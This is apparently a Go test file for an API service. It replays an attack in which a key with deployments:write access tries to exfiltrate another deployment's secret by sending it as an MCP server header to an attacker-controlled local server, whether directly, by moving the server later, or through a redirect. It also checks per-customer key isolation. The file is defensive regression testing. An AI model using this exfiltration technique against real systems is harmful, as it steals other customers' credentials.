package main

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/hermhq/herm/internal/httpapi"
)

// capture is a server the attacker controls: it records every byte it is
// sent, which must never hold the secret.
type capture struct {
	mu   sync.Mutex
	hits int
	seen strings.Builder
}

func (c *capture) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	c.mu.Lock()
	c.hits++
	fmt.Fprintf(&c.seen, "%s %s\n%v\n%s\n", r.Method, r.URL, r.Header, body)
	c.mu.Unlock()
	http.Error(w, "nothing here", http.StatusNotFound)
}

func (c *capture) holds(v string) (bool, int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return strings.Contains(c.seen.String(), v), c.hits
}

// TestMCPHeaderSecretAttack plays issue 9's attack: a key with
// deployments:write only reads a secret id from another deployment,
// points an MCP server it controls at it through a ${NAME} header, and
// tries to get the value sent there — directly, by moving the server
// later, and through a redirect from the secret's own host.
func TestMCPHeaderSecretAttack(t *testing.T) {
	t.Parallel()
	const canary = "mcp-canary-4b1d9e77"
	evil := &capture{}
	evilSrv := httptest.NewServer(evil)
	defer evilSrv.Close()
	eu, _ := url.Parse(evilSrv.URL)
	evilURL := "http://localhost:" + eu.Port() + "/mcp" // the same machine under a name the secret is not allowed for
	// The secret's real host redirects every request to the attacker.
	good := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, evilURL, http.StatusTemporaryRedirect)
	}))
	defer good.Close()

	s := startServer(t, map[string]string{"HERM_ALLOW_PRIVATE_NETWORKS": "1"})
	sec := s.must(201, "POST", "/v1/secrets", map[string]any{"name": "acme", "value": canary, "customer_id": "cus_victim", "allowed_hosts": []string{"127.0.0.1"}})["secret_id"].(string)
	s.createReady(map[string]any{"customer_id": "cus_victim", "secrets": map[string]any{"ACME": sec}})

	writer := s.must(201, "POST", "/v1/api_keys", map[string]any{"name": "backend", "scopes": []string{"deployments:read", "deployments:write"}})["key"].(string)
	as := *s
	as.key = writer
	// The attacker reads the secret's id off the victim's deployment.
	list := as.must(200, "GET", "/v1/deployments?customer_id=cus_victim", nil)["data"].([]any)
	stolen := list[0].(map[string]any)["secrets"].(map[string]any)["ACME"].(string)

	// 1. An MCP server on a host the secret is not allowed for: 422 naming the host.
	r := as.do("POST", "/v1/deployments", map[string]any{"customer_id": "cus_victim", "name": "x", "system_prompt": "p", "secrets": map[string]any{"T": stolen},
		"mcp_servers": []any{map[string]any{"name": "evil", "url": evilURL, "headers": map[string]any{"X-Key": "${T}"}}}})
	if r.status != 422 || r.errCode(t) != "invalid_secret_ref" || !strings.Contains(string(r.body), "localhost") {
		t.Fatalf("an MCP header to a host the secret is not allowed for: %d %s", r.status, r.body)
	}
	// 2. Created at the allowed host, then moved (PATCH, PUT of the entry): refused.
	d := as.createReady(map[string]any{"customer_id": "cus_victim", "secrets": map[string]any{"T": stolen},
		"mcp_servers": []any{map[string]any{"name": "acme", "url": good.URL + "/mcp", "headers": map[string]any{"X-Key": "${T}"}}}})
	dep := "/v1/deployments/" + d["deployment_id"].(string)
	for _, c := range []struct {
		method, path string
		body         any
	}{
		{"PATCH", dep, map[string]any{"mcp_servers": []any{map[string]any{"name": "acme", "url": evilURL, "headers": map[string]any{"X-Key": "${T}"}}}}},
		{"PUT", dep + "/mcp_servers/acme", map[string]any{"name": "acme", "url": evilURL, "headers": map[string]any{"X-Key": "${T}"}}},
		{"POST", dep + "/mcp_servers", map[string]any{"name": "evil", "url": evilURL, "headers": map[string]any{"X-Key": "Bearer ${T}"}}},
	} {
		if r := as.do(c.method, c.path, c.body); r.status != 422 || r.errCode(t) != "invalid_secret_ref" {
			t.Fatalf("%s %s: %d %s", c.method, c.path, r.status, r.body)
		}
	}
	// 3. The allowed host redirects: listing the tools follows it without the header.
	tools := as.must(200, "GET", dep+"/tools", nil)
	if strings.Contains(fmt.Sprint(tools), canary) {
		t.Fatal("the value is in the tools listing")
	}
	run := as.sendAndWait(d["deployment_id"].(string), "hello")
	_ = run
	leaked, hits := evil.holds(canary)
	if hits == 0 {
		t.Fatal("the redirect never reached the attacker's server: the test did not play the attack")
	}
	if leaked {
		t.Fatal("the secret's value reached a server it is not allowed for")
	}
	// A customer's key may not reference a secret of every customer, nor another customer's.
	global := s.must(201, "POST", "/v1/secrets", map[string]any{"name": "g", "value": "global-value", "allowed_hosts": []string{"127.0.0.1"}})["secret_id"].(string)
	ck := *s
	ck.key = s.must(201, "POST", "/v1/api_keys", map[string]any{"name": "c", "scopes": []string{"deployments:write"}, "customer_id": "cus_other"})["key"].(string)
	for _, ref := range []string{global, stolen} {
		if r := ck.do("POST", "/v1/deployments", map[string]any{"name": "x", "system_prompt": "p", "secrets": map[string]any{"T": ref}}); r.status != 422 || r.errCode(t) != "invalid_secret_ref" {
			t.Fatalf("a customer's key referencing %s: %d %s", ref, r.status, r.body)
		}
	}
}

// TestCustomerKeys walks the whole route table with a key limited to one
// customer: another customer's deployment is 404 on every route below it,
// routes outside /v1/deployments (but GET /v1/models) are 403, lists hold
// only the customer's deployments, creates default to (and are limited to)
// the customer.
func TestCustomerKeys(t *testing.T) {
	t.Parallel()
	s := startServer(t, nil)
	a := s.createReady(map[string]any{"customer_id": "cus_a"})
	b := s.createReady(map[string]any{"customer_id": "cus_b"})
	aID, bID := a["deployment_id"].(string), b["deployment_id"].(string)

	if r := s.do("POST", "/v1/api_keys", map[string]any{"name": "x", "scopes": []string{"admin"}, "customer_id": "cus_a"}); r.status != 400 || r.errCode(t) != "validation_error" {
		t.Fatalf("a customer's admin key: %d %s", r.status, r.body)
	}
	if r := s.do("POST", "/v1/api_keys", map[string]any{"name": "x", "scopes": []string{"deployments:read"}, "customer_id": ""}); r.status != 400 {
		t.Fatalf("an empty customer_id: %d %s", r.status, r.body)
	}
	created := s.must(201, "POST", "/v1/api_keys", map[string]any{"name": "cus_a frontend", "scopes": []string{"deployments:read", "deployments:write"}, "customer_id": "cus_a"})
	if created["customer_id"] != "cus_a" {
		t.Fatalf("created %v", created)
	}
	keys := s.must(200, "GET", "/v1/api_keys", nil)["data"].([]any)
	found := false
	for _, k := range keys {
		k := k.(map[string]any)
		if k["key_id"] == created["key_id"] {
			found = k["customer_id"] == "cus_a"
		} else if _, ok := k["customer_id"]; !ok || k["customer_id"] != nil {
			t.Fatalf("a key of every customer shows customer_id %v", k["customer_id"])
		}
	}
	if !found {
		t.Fatal("the list does not show the key's customer")
	}
	c := *s
	c.key = created["key"].(string)

	fill := func(path, dep string) string {
		r := strings.NewReplacer("{deployment_id}", dep, "{run_id}", "run_x", "{thread_id}", "thr_x", "{automation_id}", "auto_x",
			"{memory_id}", "mem_x", "{skill_id}", "skl_x", "{steering_request_id}", "str_x", "{name}", "x",
			"{secret_id}", "sec_x", "{webhook_id}", "whk_x", "{key_id}", "key_x")
		return r.Replace(path)
	}
	n := 0
	for _, op := range httpapi.OpenAPI().Operations {
		if op.Scope == "" {
			continue
		}
		n++
		switch {
		case strings.Contains(op.Path, "{deployment_id}"):
			r := c.do(op.Method, fill(op.Path, bID), map[string]any{})
			if r.status != 404 || r.errCode(t) != "not_found" {
				t.Errorf("%s %s on another customer's deployment: %d %s", op.Method, op.Path, r.status, r.body)
			}
			if op.Method == "GET" {
				if r := c.do(op.Method, fill(op.Path, aID), nil, "Accept", "application/json"); r.status == 403 || (r.status == 404 && strings.Count(op.Path, "{") == 1) {
					t.Errorf("%s %s on the customer's own deployment: %d %s", op.Method, op.Path, r.status, r.body)
				}
			}
		case op.Path == "/v1/models" || op.Path == "/v1/deployments":
		default:
			r := c.do(op.Method, fill(op.Path, aID), map[string]any{})
			if r.status != 403 || r.errCode(t) != "forbidden" {
				t.Errorf("%s %s with a customer's key: %d %s", op.Method, op.Path, r.status, r.body)
			}
		}
	}
	if n < 50 {
		t.Fatalf("only %d routes walked", n)
	}
	c.must(200, "GET", "/v1/models", nil)
	ids := func(path string) []string {
		var out []string
		for _, d := range c.must(200, "GET", path, nil)["data"].([]any) {
			out = append(out, d.(map[string]any)["deployment_id"].(string))
		}
		return out
	}
	if got := ids("/v1/deployments"); len(got) != 1 || got[0] != aID {
		t.Fatalf("the customer's list: %v", got)
	}
	if got := ids("/v1/deployments?customer_id=cus_b"); len(got) != 0 {
		t.Fatalf("another customer's list: %v", got)
	}
	if r := c.do("GET", "/v1/deployments/"+bID+"/events", nil); r.status != 404 {
		t.Fatalf("another customer's event stream: %d", r.status)
	}
	d := c.must(201, "POST", "/v1/deployments", map[string]any{"name": "mine", "system_prompt": "p"})
	if d["customer_id"] != "cus_a" {
		t.Fatalf("created for %v", d["customer_id"])
	}
	if r := c.do("POST", "/v1/deployments", map[string]any{"name": "theirs", "system_prompt": "p", "customer_id": "cus_b"}); r.status != 403 || r.errCode(t) != "forbidden" {
		t.Fatalf("creating another customer's deployment: %d %s", r.status, r.body)
	}
	sec := s.must(201, "POST", "/v1/secrets", map[string]any{"name": "own", "value": "own-value", "customer_id": "cus_a"})["secret_id"].(string)
	c.must(200, "PATCH", "/v1/deployments/"+aID, map[string]any{"secrets": map[string]any{"OWN": sec}})
	c.must(202, "DELETE", "/v1/deployments/"+aID, nil)
	if r := c.do("DELETE", "/v1/deployments/"+bID, nil); r.status != 404 {
		t.Fatalf("deleting another customer's deployment: %d", r.status)
	}
	s.must(200, "GET", "/v1/deployments/"+bID, nil)
}
